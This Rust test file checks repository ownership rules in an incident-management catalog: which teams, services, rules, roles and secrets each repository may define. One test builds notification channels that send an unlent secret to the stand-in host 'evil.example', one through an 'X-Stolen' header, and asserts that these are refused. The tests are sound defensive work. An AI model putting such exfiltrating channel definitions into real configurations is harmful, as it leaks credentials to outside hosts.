//! Authority between repositories: what each may define is what the organisation says is its own.
#![allow(clippy::unwrap_used, reason = "tests")]

use wheelhouse_core::catalog::{Code, Level, Place, owners_of};
use wheelhouse_wire::catalog::{Mode, Report, compile_files, load};

const ORGANIZATION: &str = "
kind: Organization
name: harbor
default_team: noc
fallback: {team: noc}
repositories:
  - {repository: payments, teams: [payments], secrets: [pay-token]}
  - {repository: directory, kinds: [Person, Audience]}
---
{kind: Team, name: noc, members: [grace], contacts: [{email: noc@harbor.example}], escalation: noc, roles: [administrator]}
---
{kind: Escalation, name: noc, team: noc, steps: [{page: {team: noc}}]}
---
{kind: Service, name: dns, team: noc, match: {labels: {job: dns, env: prod}}}
---
{kind: Source, name: prometheus, team: noc}
";
const PEOPLE: &str = "
{kind: Person, name: grace, contacts: [{email: grace@harbor.example}]}
---
{kind: Audience, name: press, contacts: [{email: press@harbor.example}]}
";
const PAYMENTS: &str = "
{kind: Team, name: payments, members: [dana], escalation: payments}
---
{kind: Person, name: dana, contacts: [{email: dana@harbor.example}]}
---
{kind: Escalation, name: payments, team: payments, steps: [{page: {person: dana}}]}
---
kind: Service
name: ledger
team: payments
depends_on: [dns]
stakeholders: [press]
---
{kind: Source, name: pay-probes, team: payments}
";

/// The organisation with the payments team's repository, which says `more`.
fn with(more: &str) -> Report {
    let files = [
        ("organization/org.yaml", ORGANIZATION.to_owned()),
        ("directory:people.yaml", PEOPLE.to_owned()),
        ("payments:ops/payments.yaml", format!("{PAYMENTS}---\n{more}")),
    ];
    let files = files.into_iter().map(|(path, text)| (path.to_owned(), text)).collect();
    let (catalog, report) = compile_files(files, Mode::Whole, None);
    assert_eq!(catalog.is_some(), !report.has_errors());
    report
}

fn refusal(more: &str) -> String {
    let report = with(more);
    let not_yours = report.findings.iter().filter(|finding| finding.level == Level::Error);
    assert!(not_yours.clone().all(|finding| finding.code == Code::NotYours), "{}", report.render_text(false));
    assert_eq!(not_yours.count(), 1, "{more}\n{}", report.render_text(false));
    report.render_text(false)
}

#[test]
fn each_repository_defines_what_is_its_own() {
    for more in [
        "",
        "{kind: Service, name: more, team: payments, escalation: payments}",
        "{kind: Rule, name: own, team: payments, when: {service: [ledger], labels: {env: [test]}}, then: drop}",
        "{kind: Rule, name: own, team: payments, when: {source: [pay-probes]}, then: {incident: {service: ledger}}}",
        "{kind: Drill, name: own, team: payments, signals: [{at: 0s, labels: {service: ledger}}], expect: [{not_paged: {team: noc}}]}",
    ] {
        let report = with(more);
        assert!(!report.has_errors(), "{more}\n{}", report.render_text(false));
    }
}

#[test]
fn what_is_another_ones_is_refused_with_where_and_whose() {
    for (more, words) in [
        ("{kind: Service, name: mail, team: noc}", "belongs to team `noc`"),
        ("{kind: Team, name: everybody, members: [dana]}", "is the team of another repository"),
        ("{kind: Person, name: eve}", "is in no team"),
        ("{kind: Audience, name: mayor, contacts: [{email: eve@evil.example}]}", "belong to the whole organisation"),
        ("{kind: Source, name: fake, team: noc}", "belongs to team `noc`"),
        (
            "{kind: Schedule, name: noc, team: noc, time_zone: UTC, rotation: {people: [dana], start: 2026-01-05T09:00, every: 1w}}",
            "belongs to team `noc`",
        ),
    ] {
        let text = refusal(more);
        assert!(text.contains("repository `payments` may not define"), "{text}");
        assert!(text.contains(words) && text.contains("payments:ops/payments.yaml:"), "{text}");
        assert!(text.contains("organization/org.yaml:7:"), "it says where it is decided: {text}");
    }
}

#[test]
fn no_rule_decides_about_the_signals_of_others() {
    for when in [
        "{}",
        "{labels: {service: [ledger]}}",
        "{service: [{prefix: led}]}",
        "{service: [ledger, dns]}",
        "{service: [dns]}",
        "{service: [{anything-but: [dns]}]}",
        "{source: [prometheus]}",
    ] {
        let report = with(&format!("{{kind: Rule, name: greedy, team: payments, when: {when}, then: drop}}"));
        let refused = report.findings.iter().any(|finding| finding.code == Code::NotYours);
        // An empty pattern may be no pattern at all; it is refused either way.
        assert!(refused || report.has_errors(), "{when}\n{}", report.render_text(false));
    }
    let text = refusal(
        "{kind: Rule, name: push, team: payments, when: {service: [ledger]}, then: {incident: {service: dns}}}",
    );
    assert!(text.contains("may not send signals to service `dns`"), "{text}");
}

#[test]
fn roles_are_the_organisations_to_give() {
    let with_roles = PAYMENTS.replace("members: [dana],", "members: [dana], roles: [administrator],");
    let files = vec![
        ("org.yaml".to_owned(), ORGANIZATION.to_owned()),
        ("directory:people.yaml".to_owned(), PEOPLE.to_owned()),
        ("payments:ops/payments.yaml".to_owned(), with_roles),
    ];
    let (catalog, report) = compile_files(files, Mode::Whole, None);
    assert!(catalog.is_none());
    assert!(
        report.render_text(false).contains("repository `payments` may not give roles"),
        "{}",
        report.render_text(false)
    );
}

#[test]
fn a_repository_that_the_organisation_does_not_know_defines_nothing() {
    let files = vec![
        ("org.yaml".to_owned(), ORGANIZATION.to_owned()),
        ("directory:people.yaml".to_owned(), PEOPLE.to_owned()),
        ("payments:ops/payments.yaml".to_owned(), PAYMENTS.to_owned()),
        ("new:ops/service.yaml".to_owned(), "{kind: Service, name: new, team: payments}".to_owned()),
    ];
    let (_, report) = compile_files(files, Mode::Whole, None);
    let text = report.render_text(false);
    assert!(text.contains("does not say whose this repository is"), "{text}");
    assert!(text.contains("repositories: [{repository: new, teams: [NAME]}]"), "{text}");
}

#[test]
fn what_the_organisation_says_of_repositories_is_checked() {
    let wrong = ORGANIZATION.replace("kinds: [Person, Audience]", "kinds: [Persn], teams: [nobody]");
    let wrong = wrong.replace("repository: directory", "repository: payments");
    let (_, report) = compile_files(vec![("org.yaml".to_owned(), wrong)], Mode::Whole, None);
    let text = report.render_text(false);
    for words in [
        "there is no kind `Persn`",
        "did you mean `Person`?",
        "team `nobody` does not exist",
        "`payments` is listed twice",
    ] {
        assert!(text.contains(words), "{words}\n{text}");
    }
}

#[test]
fn one_repository_needs_nothing_said() {
    let files =
        vec![("a.yaml".to_owned(), ORGANIZATION.to_owned()), ("b.yaml".to_owned(), format!("{PEOPLE}---{PAYMENTS}"))];
    let (catalog, report) = compile_files(files, Mode::Whole, None);
    assert!(catalog.is_some(), "{}", report.render_text(false));
}

#[test]
fn a_place_belongs_to_the_team_of_its_document() {
    let loaded = load(vec![("payments:ops/payments.yaml".to_owned(), PAYMENTS.to_owned())]);
    let at = |words: &str| {
        let start = u32::try_from(PAYMENTS.find(words).unwrap()).unwrap();
        Place { file: 0, start, end: start + 1 }
    };
    for words in ["depends_on", "pay-probes", "dana@", "members"] {
        let owners: Vec<String> = owners_of(&loaded.drafts, [at(words)]).iter().map(ToString::to_string).collect();
        assert_eq!(owners, ["payments"], "{words}");
    }
}

#[test]
fn no_channel_sends_a_secret_away_that_was_not_lent() {
    let channel = |more: &str| {
        format!(
            "{{kind: Channel, name: sms, team: payments, type: http, url: \"https://evil.example/\", body: '{{}}', {more}}}"
        )
    };
    let theft = channel("headers: {X-Stolen: '{{secret:forge-token}}'}");
    for more in [
        theft.as_str(),
        "{kind: Channel, name: chat, team: payments, type: slack, url: {secret: forge-token}}",
        "{kind: Channel, name: push, team: payments, type: ntfy, url: 'https://evil.example', token: {secret: forge-token}}",
    ] {
        let text = refusal(more);
        assert!(text.contains("repository `payments` may not use the secret `forge-token`"), "{text}");
        assert!(text.contains("secrets: [forge-token]"), "{text}");
    }
    assert!(!with(&channel("headers: {X-Own: '{{secret:pay-token}}'}")).has_errors());
}

#[test]
fn no_service_takes_the_signals_of_another_repository() {
    let service = |name: &str, set: &str| {
        format!("{{kind: Service, name: {name}, team: payments, match: {{labels: {{{set}}}}}}}")
    };
    for set in ["job: dns", "job: dns, env: prod", "job: dns, env: prod, zone: a"] {
        let text = refusal(&service("aaa", set));
        assert!(text.contains("repository `payments` may not take signals of service `dns`"), "{text}");
    }
    for (name, set) in [("zzz", "job: dns"), ("aaa", "job: pay"), ("aaa", "job: dns, env: test"), ("aaa", "zone: a")] {
        let report = with(&service(name, set));
        assert!(!report.has_errors(), "{name} {set}\n{}", report.render_text(false));
    }
}
